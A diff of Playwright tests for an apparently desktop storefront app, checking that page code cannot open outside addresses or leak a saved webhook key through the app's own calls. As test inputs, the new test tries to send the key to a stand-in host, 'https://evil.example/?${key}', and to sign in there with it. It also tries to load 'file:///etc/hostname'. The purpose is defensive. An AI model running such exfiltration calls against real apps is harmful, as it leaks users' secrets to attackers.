@@ -138,7 +138,7 @@ test('the page gets no permission', async ({ page }) => {
   expect(answers).toEqual(['denied', 'denied', 'denied']);
 });
 
-test('the window stays on its page: only https leaves, through the system’s browser', async ({ launchApp }) => {
+test('the window stays on its page, and the page opens no address in the browser', async ({ launchApp }) => {
   const app = await launchApp();
   const { page } = app;
   const heading = page.getByRole('heading', { name: 'Sign in to your store' });
@@ -147,7 +147,13 @@ test('the window stays on its page: only https leaves, through the system’s br
   await page.evaluate(() => {
     for (const url of ['file:///etc/hostname', 'http://shop.example/', 'https://shop.example/help']) window.open(url);
   });
-  await expect.poll(() => app.outside()).toEqual([{ kind: 'open-external', what: 'https://shop.example/help' }]);
+  const refused = await page.evaluate(() =>
+    (Reflect.get(window, 'storefront') as { invoke(channel: string, input: unknown): Promise<unknown> }).invoke(
+      'browser.open',
+      { url: 'https://shop.example/help' },
+    ),
+  );
+  expect(refused).toMatchObject({ ok: false });
   for (const url of ['https://shop.example/', 'file:///etc/hostname', new URL('other.html', address).href]) {
     await page.evaluate((to) => location.assign(to), url);
     await expect(heading).toBeVisible();
@@ -155,7 +161,45 @@ test('the window stays on its page: only https leaves, through the system’s br
   }
   // A window that was refused takes a moment to go.
   await expect.poll(() => page.context().pages().length).toBe(1);
-  expect(await app.outside()).toHaveLength(1);
+  expect((await app.outside()).filter(({ kind }) => kind === 'open-external')).toEqual([]);
+});
+
+test('page code gets no secret out by the app’s own calls: a dialog of the system asks first, and names where to', async ({
+  launchApp,
+  service,
+}) => {
+  const app = await launchApp();
+  const { page } = app;
+  await signIn(page, service);
+  const call = (channel: string, input?: unknown) =>
+    page.evaluate(
+      ([name, given]) =>
+        (Reflect.get(window, 'storefront') as { invoke(channel: string, input: unknown): Promise<unknown> }).invoke(
+          name,
+          given,
+        ),
+      [channel, input] as const,
+    );
+  const key = 'k3y'.repeat(21).concat('0');
+  expect(await call('webhook.save', { url: 'https://hooks.example/', isOn: true, key })).toMatchObject({ ok: true });
+  // What the page could answer itself if it were asked there.
+  await page.evaluate(() => Object.assign(window, { confirm: () => true, prompt: () => 'yes' }));
+  const evil = { serviceAddress: 'https://evil.example', email: 'mara@shop.example', password: key };
+  for (const answer of [
+    await call('webhook.revealKey'),
+    await call('webhook.copySavedKey'),
+    await call('session.signIn', evil),
+    await call('browser.open', { url: `https://evil.example/?${key}` }),
+  ]) {
+    expect(answer).toMatchObject({ ok: false });
+    expect(JSON.stringify(answer)).not.toContain(key);
+  }
+  expect(await app.clipboardText()).not.toContain(key);
+  const asked = (await app.outside()).filter(({ kind }) => kind === 'dialog').map(({ what }) => what);
+  expect(asked).toHaveLength(3);
+  expect(asked[2]).toContain('Sign in to evil.example?');
+  await app.answerDialogs({ message: 0 });
+  expect(await call('webhook.revealKey')).toEqual({ ok: true, value: { key } });
 });
 
 test('a text from outside stays a text, wherever it is shown', async ({ launchApp, service }) => {
